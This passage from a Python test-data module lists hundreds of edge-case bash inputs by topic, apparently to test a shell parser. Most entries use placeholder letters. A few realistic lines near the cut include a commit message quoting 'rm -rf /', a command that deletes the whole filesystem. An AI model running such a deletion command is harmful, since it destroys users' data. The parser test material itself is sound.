"""Commands that are easily misread, by topic, what other readers make of some of them, and scripts that are made up."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from random import Random

from hypothesis import strategies as st

INPUTS: dict[str, list[str]] = {
    "words and quotes": [
        "a",
        "a b  c\td",
        "  a b  ",
        "a 'b c' \"d e\" f\\ g",
        "a'b'\"c\"d",
        "a ''",
        'a ""',
        "a ''b''",
        "'a b' c",
        '"a"b c',
        "\\a b",
        "a\\\nb c",
        "a \\\n b \\\n c",
        "a 'b\\'",
        "a 'b\nc' d",
        'a "b\nc" d',
        'a "b\\"c" d',
        'a "b\\\\" c',
        'a "\\$x" b',
        'a "\\`b\\`" c',
        'a "b\\\nc" d',
        "a $'b\\'c' d",
        "a $'b\\\\' c",
        "a $'\\x41\\u00e9\\101\\cA' b",
        'a $"b c" d',
        'a $"b $(c)" d',
        "a $ b",
        'a "$" b',
        'a "b$" c',
        'a \\$b \\`c \\"d',
        "a b\\;c d\\&e f\\|g",
        "a 'b;c' 'd&e' 'f|g'",
        'a "b;c" "d&&e" "f||g"',
        "a é ü '日本'",
        "a -b--c=d e=f",
        "a \\# b",
        "a b#c",
        "a 'b'#c",
        "a $x#c",
        "a {b,c} {1..3} {a",
        "a } b",
        "a { b",
        "a if then fi",
        "a !b ! c",
        "a ~ ~/b ~c",
        "a * ? [a-z] [!a] [^b]",
        "a [ b ]",
        "a b=c d+=e",
        "a%b a@b a:b a,b a^b",
        "a \\\\ b",
        "a\\ b",
        "a\\'b c\\'d",
        'a "it\'s" b',
        "a 'say \"b\"' c",
        "a 'b'\\''c' d",
        "a 'b'\"'\"'c' d",
    ],
    "comments and lines": [
        "# a",
        "a # b",
        "a;# b",
        "a #b\nc",
        "a # 'b\nc",
        'a # "b\nc',
        "a # $(b\nc",
        "a # b \\\nc",
        "#\n\n\na",
        "a\n\n\nb",
        "a;\nb;\n",
        "\n\n a\n",
        "(a # )\n)",
        "{ a # }\n}",
        "$(a # )\n) b",
        "a=(b #c\n d)",
        "a=( # b\n)",
        "case a in # b\nc) d ;; # e\nesac",
        "if a # then\nthen b; fi",
        "for x in a b # c\ndo d; done",
        "a && # b\nc",
        "a | # b\nc",
        "a |\n\n b",
        "a &&\n\n b",
        "a ||\nb",
        "a; b; c",
        "a & b & c &",
        "a &\nb",
        "a\n&& b",
        "[[ a # b\n]]",
        "a \\\n# b",
        "a `b # c`",
        "a \\\n",
        "a \\",
    ],
    "lists and pipes": [
        "a && b || c",
        "a | b | c",
        "a |& b",
        "a && b & c",
        "! a",
        "! ! a",
        "! a | b",
        "a | ! b",
        "!a b",
        "! (a)",
        "! { a; }",
        "!",
        "! ; a",
        "time a",
        "time -p a | b",
        "time",
        "time; a",
        "time ! a",
        "! time a",
        "time -- a",
        "time (a; b)",
        "time { a; }",
        "time -f a b",
        "time -o x a",
        "\\time -p a",
        "a | time b",
        "a && time b",
        "a & && b",
        "a ; ; b",
        ";",
        "&",
        "| a",
        "&& a",
        "a ||",
        "a &&",
        "a |",
        "a | | b",
        "a && && b",
        "a;; b",
        "a;&",
        "a \\\n| b",
        "a &\\\n& b",
        "a |\\\n| b",
        "a |\\\n& b",
    ],
    "groups": [
        "(a)",
        "( a; b )",
        "(a;)",
        "(a &)",
        "()",
        "( )",
        "(\n)",
        "(a",
        "a)",
        "((a)",
        "( (a) )",
        "((a); b)",
        "((a); (b))",
        "(a)(b)",
        "(a) b",
        "(a) | (b)",
        "(a) && (b) || { c; }",
        "{ a; }",
        "{ a; b; } > c",
        "{ a }",
        "{a; }",
        "{ a; }b",
        "{ a; } b",
        "{ }",
        "{ ; }",
        "{ a &}",
        "{ (a) }",
        "{ { a; } }",
        "{ a\n}",
        "{\na\n}",
        "}",
        "{",
        "{ a; };",
        "{ a; }; }",
        "({ a; })",
        "(a) > b 2>&1 < c",
        "(a) >b>c",
        "{ a; } 2>/dev/null | b",
        "a () (b)",
        "then",
        "a; then",
        "do a; done",
        "fi",
        "esac",
        "done",
        "in",
        "in a",
        "a; in b",
    ],
    "conditionals": [
        "if a; then b; fi",
        "if a; then b; else c; fi",
        "if a; then b; elif c; then d; else e; fi",
        "if a\nthen\nb\nfi",
        "if a; b; then c; d; fi",
        "if ! a; then b; fi",
        "if a | b; then c; fi",
        "if (a) then b; fi",
        "if { a; } then b; fi",
        "if [ a ]; then b; fi",
        "if [[ a ]]; then b; fi",
        "if ((a)); then b; fi",
        "if ((a)) then b; fi",
        "if a; then :; fi > f 2>&1",
        "if a; then b; fi | c",
        "if a; then b; fi && c",
        "if a; then if b; then c; fi; fi",
        "if a; then b; fi; c",
        "if a; then b; fi c",
        "if a; then; fi",
        "if a; then b",
        "if a; fi",
        "if; then a; fi",
        "if a; then b; else; fi",
        "if a; then b; elif; then c; fi",
        "if a then b; fi",
        "if a; then b fi",
        "\\if a",
        "'if' a; then",
        "if a; then b; 'fi'",
        "i\\\nf a; then b; fi",
        "if=1 a",
        "if >x",
    ],
    "loops": [
        "while a; do b; done",
        "until a; do b; done",
        "while a\ndo\nb\ndone",
        "while a; do b; done < c",
        'while read -r l; do a "$l"; done < <(b)',
        "a | while read l; do b; done",
        "while a; b; do c; done",
        "while (a) do b; done",
        "while :; do break; done &",
        "while a; do b",
        "while a; done",
        "while; do a; done",
        "while a; do; done",
        "for x in a b c; do d; done",
        "for x do a; done",
        "for x; do a; done",
        "for x\ndo a\ndone",
        "for x in; do a; done",
        "for x in\ndo a; done",
        "for x in a b\ndo c; done",
        "for x\nin a; do b; done",
        "for x\n\nin a; do b; done",
        'for x in $(a) `b` "$@" *; do c; done',
        "for x in a; { b; }",
        "for x { a; }",
        "for x; { a; }",
        "for in in in; do a; done",
        "for do do a; done",
        "for x in do done; do a; done",
        "for x in a b c; do d; done > e",
        "for x in a do b; done",
        "for 1 in a; do b; done",
        "for x-y in a; do b; done",
        "for x in a; b; done",
        "for x in (a); do b; done",
        "for ((;;)); do a; done",
        "for ((;;)) { a; }",
        "for ((i=0; i<3; i++)); do a; done",
        "for ((i=0; i<$(a); i++)) do b; done",
        "for (( i = 0 ; i < (3) ; i++ ))\ndo a\ndone",
        "for ((i=0;i<3;i++)) ; do a; done",
        "for ( (;;)); do a; done",
        "for ((;;))\n\n{ a; }",
        "select x in a b; do c; done",
        "select x; do a; done",
        "select x do a; done",
        "select x in a; { b; }",
        "select ((;;)); do a; done",
        "for x in a\\\nb; do c; done",
        "for; do a; done",
        "for (($(case a in b) c;; esac);;)); do d; done",
    ],
    "case": [
        "case a in b) c;; esac",
        "case a in (b) c;; esac",
        "case a in b|c) d;; esac",
        "case a in b | c ) d ;; esac",
        "case a in b) c; esac",
        "case a in b) c\nesac",
        "case a in b) ;; esac",
        "case a in b)\n;; c) d;; esac",
        "case a in esac",
        "case a in\nesac",
        "case a\nin b) c;; esac",
        "case a in b) c;& d) e;;& f) g;; esac",
        "case a in b) c ;;\n\nd) e;;\nesac",
        "case a in *) b;; esac > c",
        "case a in *) b;; esac | c",
        'case "$a" in "b c"|\'d\') e;; esac',
        "case $a in $b) c;; `d`) e;; $(f)) g;; esac",
        "case a in (esac) b;; esac",
        "case a in b|esac) c;; esac",
        "case a in esac) b;; esac",
        "case in in in) a;; esac",
        "case a in b) case c in d) e;; esac;; esac",
        "case a in b) (c);; esac",
        "case a in b) { c; };; esac",
        "case a in b) if c; then d; fi;; esac",
        "case a in [bc]*) d;; esac",
        "case a in ?(b|c)) d;; @(e)|!(f)) g;; esac",
        "case a in b) c & ;; esac",
        "case a in b) c &;; esac",
        "case a in b) ; c;; esac",
        "case a in b c) d;; esac",
        "case a in b) c",
        "case a in b c;; esac",
        "case a in ) b;; esac",
        "case a in () b;; esac",
        "case a b in c) d;; esac",
        "case a of b) c;; esac",
        "case in b) c;; esac",
        "$(case a in b) c;; esac) d",
        "$(case a in (b) c;; esac) d",
        "a $(case b in c) d;; e) f;; esac; g)",
        "case a in if) b;; then) c;; esac",
        "case a in\n# b\nc) d\n;;\nesac",
        "case a in b) c;; esac d",
        "case a in b) c;;; esac",
        "case ${a} in ${b}) c;; esac",
        "case a in b) c;;\n(d) e;; esac",
        "case a in !) b;; {) c;; }) d;; esac",
        "case a in {a,b}) c;; esac",
        "case a in b) c;;& esac",
    ],
    "functions": [
        "f() { a; }",
        "f () { a; }",
        "f ( ) { a; }",
        "f()\n{\na\n}",
        "f() (a)",
        "f() ( a; b )",
        "f() { a; } > b",
        "f() { a; } 2>&1 < c",
        "f() if a; then b; fi",
        "f() while a; do b; done",
        "f() for x in a; do b; done",
        "f() case a in b) c;; esac",
        "f() [[ a ]]",
        "f() ((a))",
        "f() a",
        "f() a b > c",
        "f()",
        "f() {",
        "f() { }",
        "f(a) { b; }",
        "function f { a; }",
        "function f() { a; }",
        "function f () { a; }",
        "function f\n{ a; }",
        "function f (a)",
        "function f() (a)",
        "function f ((a))",
        "function f if a; then b; fi",
        "function f a",
        "function { a; }",
        "function",
        "function f",
        "function f-g.h:i { a; }",
        "f-g.h:i() { a; }",
        "function if { a; }",
        "function f { a; }; f b",
        "f() { a; }; f b",
        "f() { g() { a; }; }",
        "f() { a; } | b",
        "f() { a; } && b",
        "f() { a; } b",
        "f() g() { a; }",
        "/a/b() { c; }",
        "a=b() { c; }",
        "[() { a; }",
        "f=() { a; }",
        "function f=g { a; }",
        "f() { case a in b) c;; esac; }",
        "a f() { b; }",
        "'f'() { a; }",
        "$f() { a; }",
        "function $f { a; }",
        "function 'f' { a; }",
        "!() { a; }",
        "time() { a; }",
        "{() { a; }",
        "if() { a; }",
    ],
    "coprocesses": [
        "coproc a",
        "coproc a b",
        "coproc { a; }",
        "coproc n { a; }",
        "coproc n (a)",
        "coproc (a)",
        "coproc n while a; do b; done",
        "coproc while a; do b; done",
        "coproc a > b",
        "coproc x=1 a",
        "coproc a | b",
        "coproc a && b",
        "coproc n [[ a ]]",
        "coproc n ((a))",
        "coproc",
        "coproc n { a; } > b",
        'coproc "$a" b',
        "coproc > b",
    ],
    "tests": [
        "[[ a ]]",
        "[[ -f a ]]",
        "[[ ! -f a ]]",
        "[[ a == b ]]",
        "[[ a = b && c != d ]]",
        "[[ a < b || c > d ]]",
        "[[ ( a ) ]]",
        "[[ ( a && b ) || c ]]",
        "[[ ! ( a ) ]]",
        "[[ a -eq b ]]",
        "[[ $(a) ]]",
        '[[ -n "$(a)" && -z `b` ]]',
        "[[ a =~ b ]]",
        "[[ a =~ (b|c) ]]",
        "[[ a =~ ^(b|c)+$ ]]",
        "[[ a =~ ( b ) ]]",
        "[[ a =~ b\\ c ]]",
        "[[ a =~ [[:space:]]+ ]]",
        "[[ a =~ [b(]c ]]",
        '[[ a =~ "b c" ]]',
        "[[ a =~ $b ]]",
        "[[ a =~ ${b}(c) ]]",
        "[[ a =~ b|c ]]",
        "[[ a =~ (b) && c ]]",
        "[[ a =~ (b)&& c ]]",
        "[[ a =~ ^b$ || c ]]",
        "[[ a =~ $(b) ]]",
        "[[ a =~ .*\\.(c|d)$ ]]",
        "[[ $a == *.@(x|y) ]]",
        "[[ $a == @(b|c)* ]]",
        "[[ $a == !(b) ]]",
        "[[ $a != (b|c) ]]",
        "[[ a == [b ]]",
        "[[ a\n&& b ]]",
        "[[ a &&\nb ]]",
        "[[ a ||\n\nb\n]]",
        "[[\na ]]",
        "[[ a ]] && b",
        "[[ a ]] > b",
        "[[ a ]] | b",
        "[[ a ]]; b",
        "[[ a ]] b",
        "[[ ]]",
        "[[ a",
        "[[ a ]",
        "[[ a b ]]",
        "[[ a; b ]]",
        "[[ a & b ]]",
        "[[ a | b ]]",
        "[[ -f ]]",
        "[[ a == ]]",
        "[[ ( a ]]",
        "[[ a ) ]]",
        "[[ && a ]]",
        "[[ a && ]]",
        "[[a ]]",
        "[[ a]]",
        "[[ -v a[1] ]]",
        "[[ \"a\" == 'b' ]]",
        "[[ ! a ]]",
        "[[ ! ! a ]]",
        "[[ -a ]]",
        "[[ -a -a -a ]]",
        "[[ -z $a ]]",
        "[[ a -nt b && b -ot c ]]",
        "[[ a == b* && c == *d ]]",
        "[[ <(a) ]]",
        "[[ a ]]\n",
        "[[ (a) ]]",
        "[[ a&&b ]]",
        "[[ a<b ]]",
        "[ a ]",
        "[ a",
        "[ \\( a \\) ]",
        "[ a = b -a c != d ]",
        "[ a < b ]",
        "[ $(a) ]",
        "[[]] a",
    ],
    "arithmetic": [
        "((a))",
        "(( a + b ))",
        "((a)) ; ((b))",
        "((a)); ((b))",
        "(( a < b ))",
        "(( a > b ))",
        "(( a << 2 | b >> 1 & c ))",
        "((a)) && b",
        "((a)) > b",
        "((a++))",
        "(( (a) + (b) ))",
        "(( a[1] ))",
        "(( a = $(b) ))",
        "(( a = `b` ))",
        '(( "a" ))',
        "(( 'a' ))",
        "((\na\n))",
        "(( a # b ))",
        "(( 16#ff ))",
        "(( ))",
        "(())",
        "((a) )",
        "((a) b)",
        "((a) | b)",
        "((a); b; (c))",
        "((a) && (b))",
        "((a)) b",
        "(((a)))",
        "(( (a) ))",
        "( ((a)) )",
        "echo $((a))",
        "echo $(( a + b ))",
        "echo $(((a)))",
        "echo $(((a) + (b)))",
        "echo $((a) )",
        "echo $((a); b)",
        "echo $((a); (b))",
        "echo $( (a); (b))",
        "echo $( (a) )",
        "echo $((a | b) | c)",
        "echo $((\"a\" + 'b'))",
        "echo $(( $(a) + `b` ))",
        "echo $(( ${a:-1} ))",
        "echo $(( a ? b : c ))",
        "echo $(( a[b] ))",
        'echo "$((a))"',
        'echo "$(( "a" ))"',
        "echo $[a]",
        "echo $[ a + b ]",
        "echo $[ a[1] ]",
        "echo $[ $(a) ]",
        "echo $[ a[b[1]] ] c",
        "echo $[a",
        "let a=1 b=2",
        "let 'a = 1' \"b=2\"",
        "let a=$(b)",
        "echo $((1",
        "echo $((1)",
        "echo $((a\\\n+b))",
        "echo $(\\\n(a))",
        "(\\\n(a)\\\n)",
        "echo $(( a )) $(( b ))",
        "a $((b;c))",
        "((a;b))",
    ],
    "parameters": [
        'a $b ${b} "$b" "${b}"',
        "a $1 $10 ${10} $@ $* $# $? $$ $! $- $0 $_",
        'a "$@" "$*"',
        "a ${b:-c} ${b-c} ${b:=c} ${b=c} ${b:?c} ${b?c} ${b:+c} ${b+c}",
        "a ${b#c} ${b##c} ${b%c} ${b%%c}",
        "a ${b/c/d} ${b//c/d} ${b/#c/d} ${b/%c/d} ${b/c} ${b//c}",
        "a ${b^} ${b^^} ${b,} ${b,,} ${b^^[a-z]}",
        "a ${b:1} ${b:1:2} ${b: -1} ${b:(-1)} ${b:$c:$d} ${b:$((1+2))}",
        "a ${#b} ${#} ${#@} ${#*} ${#1} ${#b[@]} ${##} ${#?} ${#-} ${#$}",
        "a ${!b} ${!b*} ${!b@} ${!b[@]} ${!b[*]} ${!1} ${!} ${!#} ${!@}",
        "a ${b[0]} ${b[@]} ${b[*]} ${b[c]} ${b[$c]} ${b[$(c)]} ${b[\"c d\"]} ${b['c']}",
        "a ${b[@]:1:2} ${b[0]:-c} ${b[@]/c/d} ${b[@]#c}",
        "a ${b@Q} ${b@U} ${b[@]@A} ${@@Q}",
        "a ${@:1} ${*:1:2} ${@:-b} ${@#c}",
        "a ${b:-$(c)} ${b:-`c`} ${b:-${c:-d}}",
        "a ${b:-'c d'} ${b:-\"c d\"} ${b:-c d}",
        "a ${b:-'}'} c",
        "a \"${b:-'}'}\" c",
        "a \"${b:-'c'}\" d",
        'a ${b:-"}"} c',
        "a ${b:-\\}} c",
        'a "${b:-\\}}" c',
        'a "${b:-"c"}" d',
        'a "${b:-"c d"}" e',
        'a "${b:-"$(c "d")"}" e',
        "a ${b//\\//-} c",
        "a ${b//\\// } c",
        "a ${b//'/'/-} c",
        'a "${b//\\"/}" c',
        "a ${b#'c'} ${b%\"d\"} e",
        "a \"${b#'}'}\" c",
        'a "${b%"$c"}" d',
        "a ${b##*/} ${b%/*} ${b%.*}",
        "a ${b//[^a-z]/} c",
        "a ${b/$'\\n'/ } c",
        "a \"${b//$'\\n'/ }\" c",
        "a ${b:-a;b&c|d<e>f(g)} h",
        "a ${b:- c }",
        "a ${b:-\nc\n} d",
        "a ${b:-#c} d",
        "a ${b:-{c} d",
        "a ${b:-{c,d}} e",
        "a ${b:-<(c)} d",
        'a "${b:-<(c)}" d',
        "a ${b:+>(c)} d",
        "${a:-b} c",
        "$a b",
        "${a}b c",
        '"$a" b',
        "$a$b c",
        "a${b}c${d}e",
        "a ${b",
        "a ${b:-c",
        "a ${}",
        "a ${ }",
        "a ${b c}",
        "a ${b!}",
        "a ${-b}",
        "a ${1a}",
        "a ${b:-${c:-${d:-$(e)}}}",
        'a "${b:-${c:-"${d:-e}"}}" f',
        "a ${b?'c d'}",
        'a ${b:?"c $(d)"}',
        "a $\\\nb",
        "a ${\\\nb}",
        "a ${b\\\n:-c}",
        "a ${b:\\\n-c}",
        "a $b\\\nc",
        "a $(\\\nb)",
        "a ${b~} ${b~~}",
        'a "${b[@]}" "${b[*]}"',
        "a ${b:-$'c}d'} e",
        "a \"${b:-$'c'}\" d",
        "a ${b:=${c//d/e}} f",
        'a ${b-`c "d}"`} e',
        "a $b[1] c",
        "a $b.c $b/c $b-c",
        "a ${b/\\}/c} d",
        "a ${b/{/c} d",
        "a \"${b/'/'/c}\" d",
        "a ${b:-((c))} d",
        "a ${b:-)} c",
        "a ${b+$(c=$d#e f)}",
        "a ${b+$(c=$d#e f\ng)}",
        "a $$[b-c]",
        'a "${b:-<(c}d)}" e',
        'a "${b:-<(c "d}")}" e',
        'a "${b:-<(}" c',
    ],
    "command substitution": [
        "a $(b)",
        "a $(b c) d",
        'a "$(b)"',
        'a "$(b "c")" d',
        'a "$(b "$(c "d")")" e',
        "a $( b ; c )",
        "a $(b; c; )",
        "a $(\nb\n)",
        "a $(b\nc)",
        "a $(b &)",
        "a $(b &) c",
        "a $()",
        "a $( )",
        "a $(<b)",
        "a $(< b)",
        "a $(< b) c",
        "a $(b | c && d)",
        "a $(b > c)",
        "a $(b) $(c)$(d)",
        "$(a) b",
        "$(a)",
        "$(a)$(b)",
        "$(a) && $(b)",
        "a=$(b)",
        "a=$(b) c",
        "a $(b",
        "a $(b))",
        "a $(b;;)",
        "a $(b 'c)')",
        'a $(b "c)")',
        "a $(b \\))",
        "a $(b # c)\n)",
        "a $(if b; then c; fi)",
        "a $(for x in b; do c; done)",
        "a $({ b; })",
        "a $( (b) )",
        "a $(b() { c; }; b)",
        "a $(b <<< c)",
        "a $(b <(c))",
        "a `b`",
        "a `b c` d",
        'a "`b`"',
        'a "`b "c"`" d',
        'a "`b \\"c\\"`" d',
        "a `b \\`c\\`` d",
        "a `b \\`c \\\\\\`d\\\\\\`\\`` e",
        'a `b "c"` d',
        "a `b 'c'` d",
        "a `b '\\`c\\`'` d",
        "a `b $(c)` d",
        "a $(b `c`) d",
        "a `b | c`",
        "a `b; c`",
        "a ``",
        "a ` `",
        "a `b",
        "a `b\\`",
        "a `b \\$c` d",
        "a `b \\\\$c` d",
        "`a` b",
        "`a`",
        "a `b\nc` d",
        "a `b \\\nc` d",
        "a `b (`",
        "a `'`",
        'a "$(b \'"\')" c',
        "a '$(b)' c",
        'a "\\$(b)" c',
        "a \\$\\(b\\)",
        "a $'$(b)' c",
        "a $(b $'c\\'d)')",
        'a $(b "${c:-)}")',
        "a $(b ${c:-)})",
        'a $(b "\\"")',
        'a $(echo ")")',
        'a x$(b)y"$(c)"z',
        "a ${ b; } c",
        "a ${ b;} c",
        "a ${| b; } c",
        '"$(a)" b',
    ],
    "process substitution": [
        "a <(b)",
        "a <(b) >(c)",
        "a <(b c | d) e",
        "a < <(b)",
        "a > >(b)",
        "a 2> >(b >&2)",
        "a &> >(b)",
        "a >& >(b)",
        "a b<(c)",
        "a <(b)c",
        "<(a) b",
        "a <( b )",
        "a <(b;)",
        "a <()",
        "a <(b",
        "a <(b <(c))",
        'a "<(b)"',
        "a '<(b)'",
        "a <<(b)",
        "a x=<(b)",
        "x=<(a) b",
        "a <\\\n(b)",
        "source <(a)",
        "a < <(b) < <(c)",
        "a<(b)",
        "a 3<(b)",
        "a $(<(b))",
    ],
    "redirections": [
        "a > b",
        "a >b",
        "a>b",
        "a >> b",
        "a < b",
        "a <> b",
        "a >| b",
        "a &> b",
        "a &>> b",
        "a >& b",
        "a >&2",
        "a >&-",
        "a >&2-",
        "a >&-b",
        "a >& -b c",
        "a <&-b",
        "{ a; } >&-b",
        "a >&-;b",
        "a 2>&->b",
        "a 2>&1",
        "a 2>&1-",
        "a 2>&-",
        "a <&3",
        "a <&-",
        "a 3<&0-",
        "a 2> b",
        "a 2 > b",
        "a x2>b",
        "a 2>b 1>&2",
        "a 10>b 3<>c",
        "> a",
        "> a b",
        ">a <b c",
        "< a b > c",
        "2>a b",
        "> a > b",
        ">>a",
        "a >b c d",
        "a b >c d <e f",
        "a > 'b c'",
        'a > "$b"',
        "a > $b",
        "a > $(b)",
        "a > `b`",
        "a > b$c'd'",
        "a > \\\nb",
        "a >\\\n> b",
        "a {fd}> b",
        "a {fd}>&-",
        "a {fd}<b c",
        "{fd}>b a",
        "{fd}>b",
        "a {fd} > b",
        "a {fd[1]}> b",
        "a {1}> b",
        "exec {fd}<>b",
        "exec 3<a 4>b",
        "a > b;c",
        "a > b&c",
        "a > b|c",
        "a > b&& c",
        "a &>b&c",
        "a >&b&c",
        "a 2>&1 | b",
        "a 2>&1|b",
        "a >&1 2>&$b",
        "a >&$b",
        "a > $((b))",
        "a >",
        "a >;",
        "a > | b",
        "a > > b",
        "a > &b",
        "a >& ",
        "a <",
        "a > (b)",
        "a > #b",
        "a <<< b",
        "a <<<b",
        "a <<< 'b c'",
        'a <<< "b $(c)" d',
        "a <<< $b",
        "a <<< $'b\\n'",
        "a 3<<< b",
        "a <<<",
        "a <<< b <<< c",
        "<<< a b",
        "a <<<\\\nb",
        "a<<<b",
        "a &>",
        "a & > b",
        "a &>b c",
        "a 2>&1 >b c",
        "a 99999999999999999999>b",
        "a 'x'2>b",
        'a "2">b',
        "a 2\\\n>b",
        "a > b=c",
        "a >b>c>d",
        "a > {b,c}",
        "a > ~/b",
        "a > *",
        "x=1 >a b",
        ">a x=1 b",
        "x=1 >a",
        "a >b x=1",
    ],
    "here-documents": [
        "a <<E\nb\nE",
        "a <<E\nb\nE\n",
        "a <<E\nb\nE\nc",
        "a << E\nb\nE\nc",
        "a <<'E'\n$(b)\nE\nc",
        'a <<"E"\n$(b)\nE\nc',
        "a <<\\E\n$(b)\nE\nc",
        "a <<E'F'\n$(b)\nEF\nc",
        'a <<"a b"\n$(c)\na b\nd',
        "a <<$'E'\n$(b)\nE\nc",
        "a <<E\n$(b)\nE\nc",
        "a <<E\n`b`\nE\nc",
        "a <<E\n${b:-$(c)}\nE\nd",
        "a <<E\n\\$(b) \\`c\\`\nE\nd",
        "a <<E\n'$(b)' \"$(c)\"\nE\nd",
        "a <<E\n$b ${c} $((d))\nE\ne",
        "a <<-E\n\tb\n\tE\nc",
        "a <<-'E'\n\tb\n\t\tE\nc",
        "a <<-E\n\tb\n E\n\tE\nc",
        "a <<E b\nc\nE\nd",
        "a <<E; b\nc\nE\nd",
        "a <<E | b\nc\nE\nd",
        "a <<E && b\nc\nE\nd",
        "a <<E > b\nc\nE\nd",
        "a > b <<E\nc\nE\nd",
        "a <<E & b\nc\nE\nd",
        "a <<E <<F\nb\nE\nc\nF\nd",
        "a <<E; b <<F\nc\nE\nd\nF\ne",
        "a <<E | b <<F\nc\nE\nd\nF\ne",
        "a 3<<E\nb\nE\nc",
        "<<E a\nb\nE\nc",
        "<<E\nb\nE\nc",
        "(a <<E\nb\nE\n)\nc",
        "(a <<E)\nb\nE\nc",
        "{ a <<E\nb\nE\n}\nc",
        "{ a; } <<E\nb\nE\nc",
        "if a <<E\nb\nE\nthen c; fi",
        "while a; do b; done <<E\nc\nE\nd",
        "for x in a; do b; done <<E\nc\nE\nd",
        "f() { a <<E\nb\nE\n}\nf",
        "f() { a; } <<E\nb\nE\nc",
        "a $(b <<E\nc\nE\n) d",
        'a "$(b <<E\nc\nE\n)" d',
        "a \"$(b <<'E'\nit's \"c\nE\n)\" d",
        "a $(b <<'E'\n)\nE\n) d",
        "a <(b <<E\nc\nE\n) d",
        "a `b <<E\nc\nE\n` d",
        "a <<E\n$(b <<F\nc\nF\n)\nE\nd",
        "a <<E\nb\nE F\nE\nc",
        "a <<E\nb\n E\nE\nc",
        "a <<E\nb \\\nE\nE\nc",
        "a <<'E'\nb \\\nE\nc",
        "a <<''\nb\n\nc",
        'a <<""\nb\n\nc',
        "a <<E",
        "a <<E\n",
        "a <<E\nb",
        "a <<E\nb\nF\n",
        "a <<",
        "a <<\nb",
        "a << $b\nc\n$b\nd",
        "a <<$(b)\nc\n$(b)\nd",
        "a <<E\nE\nb",
        "a <<E # b\nc\nE\nd",
        "a <<E \\\n b\nc\nE\nd",
        "a <<E\\\nF\nb\nEF\nc",
        "a && b <<E || c\nd\nE\ne",
        "case a in b) c <<E;; esac\nd\nE\ne",
        "case a in b) c <<E\nd\nE\n;; esac\ne",
        "a <<E-F.G\nb\nE-F.G\nc",
        "a <<!\nb\n!\nc",
        "a <<{\nb\n{\nc",
        "a <<E\n# b $(c)\nE\nd",
        "a <<-E\n\t$(b)\n\tE\nc",
        "a <<E\r\nb\r\nE\r\nc",
        "a <<E\nb\n\nc\n\nE\nd",
        "a <<é\nb\né\nc",
        "a <<E$\nb\nE$\nc",
        "a <<E || [[ b ]]\nc\nE\nd",
        "a <<E\n$\nE\nb",
        "a <<E\n\\\\\nE\nb",
        "a <<E\n${b\nE\nc",
        "a <<E\n$(b\nE\nc",
    ],
    "assignments": [
        "a=b",
        "a=b c",
        "a=b c=d e",
        "a= b",
        "a=",
        "a='b c' d",
        'a="b $(c)" d',
        "a=$b c",
        "a=$(b) c=$(d) e",
        "a=`b` c",
        "a+=b",
        "a+=b c",
        "a[1]=b",
        "a[1+2]=3",
        "a[1]+=b",
        "a[$(b)]=c",
        "a[$b]=c d",
        "a['b c']=d",
        'a["b c"]=d',
        "a[b c]=d",
        "a[b[c]]=d",
        "a[]=b",
        "a[b]c=d",
        "a[b] c",
        "a[b",
        "a=(b)",
        "a=(b c d)",
        "a=()",
        "a=( )",
        "a=(\nb\nc\n)",
        "a=(b 'c d' \"e $(f)\" $g)",
        "a=([b]=c [d]=e)",
        "a=([b]+=c)",
        "a=([$(b)]=c)",
        "a=([b]=c d)",
        "a=([b] c)",
        "a=(b=c)",
        "a=($(b))",
        "a=(`b`)",
        "a=(<(b))",
        "a=(*)",
        "a=(b;c)",
        "a=(b|c)",
        "a=(b&c)",
        "a=(b (c))",
        "a=(b",
        "a+=(b c)",
        "a[1]=(b)",
        "a=(b) c=d",
        "a=(b)c",
        "a =(b)",
        "a= (b)",
        "a=b=c d",
        "1a=b c",
        "a-b=c d",
        "a.b=c d",
        "$a=b c",
        "'a'=b c",
        "a'='b c",
        "a\\=b c",
        "\\a=b c",
        "a=~/b:~/c d",
        "a={b,c} d",
        "a=b;c",
        "a=b&c",
        "a=b|c",
        "a=b>c d",
        "a=b>c",
        "export a=b",
        "export a=b c=$(d) e",
        "export a=(b)",
        "local a=(b c) d",
        "declare -a a=(b c) d=e",
        "declare -A m=([k]=v [l]=w)",
        "declare -A m=(['a b']=\"c d\")",
        "declare a[1]=b",
        "declare a[1]",
        "declare a+=b",
        "declare -x a",
        "declare",
        "declare \"a=b\" 'c=d'",
        "declare $a=b",
        "declare -- a=b",
        "typeset -i a=1",
        "readonly a=b c",
        "readonly -a a=(b)",
        "export",
        "export -f f",
        "export -n a=b",
        "echo a=(b)",
        "echo a=b",
        "env a=b c",
        "a=b export c=d",
        "command export a=b",
        "builtin declare a=b",
        "\\export a=(b)",
        "declare a=(b) > c",
        "declare a=b; c",
        "declare a=b && c",
        "unset a b[1]",
        "unset 'a[1]'",
        "alias a=b c='d e'",
        "eval a=(b)",
        "a=\\\nb c",
        "a\\\n=b c",
        "a+\\\n=b c",
        "a=(b\\\nc)",
        "a=b\\\nc d",
        "a=#b c",
        "a=(\\( \\< c)",
        "$(local a=(\\( \\< c); d)",
        "a=(#b\n)",
        "x=(a b)c",
        "a=<b c",
        "a=>b c",
        "a=${b:-c d} e",
        "a=$((b)) c",
        "a=\"b\"'c'$d`e` f",
    ],
    "extended globs": [
        "a ?(b|c)",
        "a *(b) +(c) @(d) !(e)",
        "a @(b|c).d",
        "a b.@(c|d)",
        "a !(b|c)",
        "rm !(a)",
        "a @(b c)",
        "a @('b c'|d)",
        "a @($(b)|c)",
        "a @(b|@(c|d))",
        'a "b"@(c|d)"e"',
        "a 'b'*(c)",
        "a $b@(c|d)",
        "a @(b|$c)",
        "a @(b",
        "a @()",
        "a @(b|)",
        "@(a|b) c",
        "a=@(b|c) d",
        "a > @(b)",
        "for x in @(a|b); do c; done",
        "a *(b)*(c)",
        "a @(b&c)",
        "a @(b;c)",
        "a @(b<c)",
        "a @(`b`)",
        "a ${b#@(c|d)}",
        "a ${b//+([a-z])/x}",
        "a @(b\\)c)",
        'a @(b")"c)',
        "a @(b\n)",
        "+(a) b",
    ],
    "line endings and odd characters": [
        "a\r\nb\r\n",
        "a \r b",
        "if a; then\r\nb\r\nfi\r\n",
        "a\x0bb\x0cc",
        "a\u00a0b c",
        "a\u2028b c",
        "a\x01b",
        "a\x7fb",
        "\ufeffa b",
        "a\tb\t\tc",
        "a '\t' b",
        "a; \\\n\\\n\\\n b",
        "\\\na b",
        "a\\\n\\\nb c",
        "\\\n\\\n",
        "",
        " ",
        "\t",
        "\n",
        "a \ud7ff b",
    ],
    "as people write them": [
        'git commit -m "fix: don\'t rm -rf /"',
        "git log --oneline | head -n 5 | awk '{print $1}'",
